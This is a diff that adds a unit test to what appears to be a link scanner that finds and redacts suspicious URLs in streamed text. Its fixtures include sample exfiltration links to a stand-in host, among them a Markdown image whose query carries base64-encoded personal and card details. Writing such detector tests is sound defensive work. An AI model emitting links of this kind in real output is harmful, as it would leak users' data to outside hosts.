@@ -91,6 +91,24 @@ describe('links', () => {
     assert.equal(linkPendingStart('x <img src="https://e'), 2);
   });
 
+  it('never releases text a later finding starts in: findings before the pending start are final', () => {
+    const texts = [
+      'See ![chart](https://evil.test/p.png?d=QWxpY2UgU21pdGggb3JkZXIgNDIgY2FyZCA0MjQy) and [docs](https://docs.example.com/a).',
+      'Go to https://evil.test/collect?u=alice and <a href="https://evil.test/x">here</a> or <img src="https://e.test/i.png"> ok',
+      '![a][r] text\n[r]: https://evil.test/q?x=1\nbye [x](https://evil.test/y "title") end',
+    ];
+    const key = (f: Finding) => `${f.type}@${f.start}-${f.end}:${f.score}:${f.redaction ?? ''}`;
+    for (const text of texts) {
+      const final = scan(text);
+      for (let cut = 1; cut <= text.length; cut++) {
+        const prefix = text.slice(0, cut);
+        const pending = linkPendingStart(prefix);
+        const settled = (list: readonly Finding[]) => list.filter((f) => f.start < pending).map(key);
+        assert.deepEqual(settled(scan(prefix)), settled(final), `cut at ${cut} of ${JSON.stringify(text)}`);
+      }
+    }
+  });
+
   it('validates allowHosts as a list of host names', () => {
     assert.ok(links.options.safeParse({ action: 'redact', allowHosts: ['a.test'] }).success);
     assert.ok(!links.options.safeParse({ action: 'mask' }).success);
